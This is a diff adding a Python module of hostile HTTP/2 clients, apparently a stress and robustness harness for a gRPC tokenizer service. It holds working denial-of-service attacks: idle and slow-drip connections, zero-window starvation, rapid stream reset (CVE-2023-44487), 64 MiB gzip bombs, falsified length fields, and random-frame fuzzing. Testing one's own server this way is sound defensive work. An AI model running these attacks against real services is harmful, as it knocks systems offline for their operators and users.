@@ -1,0 +1,282 @@
+"""Clients that mean harm, or are broken: HTTP/2 by hand, where no library would send it.
+
+Each takes an address and goes on until it is told to stop; each returns how much it has sent.
+"""
+
+from __future__ import annotations
+
+import gzip
+import random
+import socket
+import struct
+from collections.abc import Callable, Iterator
+from contextlib import ExitStack, contextmanager, suppress
+from functools import cache
+from time import monotonic, sleep
+from typing import Final
+
+from bytepair.v1 import tokenizer_pb2
+
+PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
+END_STREAM, ACK, END_HEADERS = 1, 1, 4
+INITIAL_WINDOW_SIZE = 4
+CANCEL = 8
+SERVICE: Final = "/bytepair.v1.TokenizerService/"
+
+#: Whether to go on.
+Going = Callable[[], bool]
+
+
+def going_for(seconds: float) -> Going:
+    """Until so much time is over."""
+    until = monotonic() + seconds
+    return lambda: monotonic() < until
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """RFC 9113, section 4.1."""
+    return (
+        struct.pack(">I", len(payload))[1:]
+        + bytes((kind, flags))
+        + struct.pack(">I", stream)
+        + payload
+    )
+
+
+def headers(rpc: str, *, encoding: str = "identity") -> bytes:
+    """The headers of a call, none of them compressed (RFC 7541, section 6.2.2)."""
+    fields = {
+        ":method": "POST",
+        ":scheme": "http",
+        ":path": SERVICE + rpc,
+        ":authority": "hostile",
+        "content-type": "application/grpc",
+        "te": "trailers",
+        "grpc-encoding": encoding,
+    }
+    packed = bytearray()
+    for name, value in fields.items():
+        packed += b"\0" + bytes((len(name),)) + name.encode()
+        packed += bytes((len(value),)) + value.encode()
+    return bytes(packed)
+
+
+def message(raw: bytes, *, compressed: bool = False, length: int | None = None) -> bytes:
+    """A gRPC message, with a length that may be a lie."""
+    return bytes((compressed,)) + struct.pack(">I", len(raw) if length is None else length) + raw
+
+
+def count(text: str = "hello world") -> bytes:
+    """A request of Count."""
+    return tokenizer_pb2.CountRequest(encoding="cl100k_base", text=text).SerializeToString()
+
+
+@contextmanager
+def connection(address: str, *, hello: bytes | None = None) -> Iterator[socket.socket]:
+    """A connection that has said what a client says first."""
+    host, port = address.rsplit(":", 1)
+    with socket.create_connection((host, int(port)), timeout=5) as link:
+        link.sendall(PREFACE + frame(SETTINGS, 0, 0) if hello is None else hello)
+        yield link
+
+
+def _drain(link: socket.socket) -> None:
+    """Read what has come, and drop it."""
+    link.setblocking(False)
+    try:
+        while link.recv(1 << 16):
+            pass
+    except BlockingIOError:
+        pass
+    finally:
+        link.setblocking(True)
+        link.settimeout(5)
+
+
+def _again(address: str, going: Going, attack: Callable[[socket.socket], int]) -> int:
+    """Attack over one connection after the other: the server may close each."""
+    sent = 0
+    while going():
+        try:
+            with connection(address) as link:
+                while going():
+                    sent += attack(link)
+                    _drain(link)
+        except OSError:
+            sleep(0.01)  # closed by the server, as it should be
+    return sent
+
+
+def silent(address: str, going: Going) -> int:
+    """Connects many times and says nothing."""
+    with ExitStack() as stack:
+        for _ in range(200):
+            stack.enter_context(connection(address, hello=b""))
+        while going():
+            sleep(0.05)
+    return 200
+
+
+def dribbling(address: str, going: Going) -> int:
+    """Sends a byte a second, on many connections."""
+    said = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, headers("Count"))
+    sent = 0
+    with ExitStack() as stack:
+        links = [stack.enter_context(connection(address, hello=b"")) for _ in range(50)]
+        while going():
+            for link in links:
+                with suppress(OSError):
+                    link.send(said[sent : sent + 1])
+            sent += 1
+            sleep(min(1.0, 0.05) if not going() else 1.0)
+    return sent * len(links)
+
+
+def never_reading(address: str, going: Going) -> int:
+    """Asks for large answers, with no room for a byte of them."""
+    no_room = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
+    raw = message(
+        tokenizer_pb2.EncodeRequest(encoding="cl100k_base", text="a b " * 8_000).SerializeToString()
+    )
+    sent = 0
+    with connection(address, hello=PREFACE + no_room) as link, suppress(OSError):
+        for stream in range(1, 2 * 500, 2):
+            if not going():
+                break
+            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Encode")))
+            for start in range(0, len(raw), 16_000):
+                part = raw[start : start + 16_000]
+                last = start + 16_000 >= len(raw)
+                link.sendall(frame(DATA, END_STREAM if last else 0, stream, part))
+            sent += 1
+            _drain(link)
+        while going():
+            sleep(0.05)
+            _drain(link)
+    return sent
+
+
+def resetting(address: str, going: Going) -> int:
+    """Opens streams and resets them at once, for as long as a connection lives
+    (CVE-2023-44487)."""
+    sent = 0
+    while going():
+        with suppress(OSError), connection(address) as link:
+            stream = 1
+            while going():
+                calls = []
+                for _ in range(100):
+                    calls.append(frame(HEADERS, END_HEADERS, stream, headers("Count")))
+                    calls.append(frame(DATA, END_STREAM, stream, message(count())))
+                    calls.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
+                    stream += 2
+                link.sendall(b"".join(calls))
+                sent += 100
+                _drain(link)
+    return sent
+
+
+@cache
+def _bomb() -> bytes:
+    return message(gzip.compress(bytes(1 << 26)), compressed=True)
+
+
+def prepare() -> None:
+    """Make beforehand what takes longer than some attacks."""
+    _bomb()
+
+
+def bombing(address: str, going: Going) -> int:
+    """Sends small messages that decompress to 64 MiB."""
+    bomb = _bomb()
+    sent = 0
+    while going():
+        with suppress(OSError), connection(address) as link:
+            link.sendall(frame(HEADERS, END_HEADERS, 1, headers("Count", encoding="gzip")))
+            for start in range(0, len(bomb), 16_000):
+                last = start + 16_000 >= len(bomb)
+                link.sendall(
+                    frame(DATA, END_STREAM if last else 0, 1, bomb[start : start + 16_000])
+                )
+            sent += 1
+            link.settimeout(1)
+            with suppress(OSError):
+                link.recv(1 << 16)
+    return sent
+
+
+def _one_call(body: bytes) -> Callable[[str, Going], int]:
+    """Sends calls with this for a message, each on a connection of its own."""
+
+    def attack(address: str, going: Going) -> int:
+        sent = 0
+        while going():
+            with suppress(OSError), connection(address) as link:
+                link.sendall(
+                    frame(HEADERS, END_HEADERS, 1, headers("Count"))
+                    + frame(DATA, END_STREAM, 1, body)
+                )
+                sent += 1
+                link.settimeout(1)
+                link.recv(1 << 16)
+        return sent
+
+    return attack
+
+
+def lying_about_lengths(address: str, going: Going) -> int:
+    """Messages that say they are longer or shorter than they are, and frames as well."""
+    raw = count()
+    bodies = [
+        message(raw, length=0xFFFFFFFF),
+        message(raw, length=len(raw) + 1),
+        message(raw, length=1),
+        b"\0\0",
+        message(raw, compressed=True),
+    ]
+    sent = 0
+    while going():
+        for body in bodies:
+            sent += _one_call(body)(address, _once())
+        with suppress(OSError), connection(address) as link:
+            link.sendall(b"\xff\xff\xff" + frame(DATA, 0, 1)[3:] + bytes(100_000))
+            sent += 1
+    return sent
+
+
+def babbling(address: str, going: Going) -> int:
+    """Random frames and random bytes."""
+    rng = random.Random(1)
+
+    def attack(link: socket.socket) -> int:
+        if rng.random() < 0.5:
+            link.sendall(rng.randbytes(rng.randrange(1, 4096)))
+        else:
+            body = rng.randbytes(rng.randrange(200))
+            link.sendall(frame(rng.randrange(12), rng.randrange(256), rng.randrange(9), body))
+        return 1
+
+    return _again(address, going, attack)
+
+
+def _once() -> Going:
+    left = iter((True,))
+    return lambda: next(left, False)
+
+
+#: Requests that are no messages, and one with text that is no UTF-8 (field 2 of Count).
+not_protobuf: Final = _one_call(message(b"\xff" * 64))
+not_utf8: Final = _one_call(message(b"\x0a\x0bcl100k_base\x12\x03a\xff\xfe"))
+
+ATTACKS: Final[dict[str, Callable[[str, Going], int]]] = {
+    "200 connections that say nothing": silent,
+    "50 connections, a byte a second": dribbling,
+    "500 large answers never read": never_reading,
+    "streams opened and reset (rapid reset)": resetting,
+    "gzip bombs of 64 MiB": bombing,
+    "wrong lengths": lying_about_lengths,
+    "random frames": babbling,
+    "invalid protobuf": not_protobuf,
+    "invalid UTF-8": not_utf8,
+}
